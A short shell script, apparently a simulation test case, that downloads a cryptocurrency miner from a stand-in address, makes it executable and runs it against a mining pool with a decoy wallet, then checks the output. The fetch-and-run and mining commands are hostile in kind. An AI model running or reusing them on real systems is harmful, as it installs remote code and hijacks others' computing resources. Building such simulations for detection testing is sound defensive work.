#!/bin/sh
. /opt/case/case.sh

mkdir -p /opt/cpu && cd /opt/cpu
curl -sO http://203.0.113.10/programs/miner && mv miner minerd && chmod +x minerd
./minerd -a yescryptr16 -o stratum+tcp://203.0.113.10:3333 -u DBaitWallet.worker7 -p c=DOGE -t 2 >/tmp/out
grep -q job_id /tmp/out
took_place
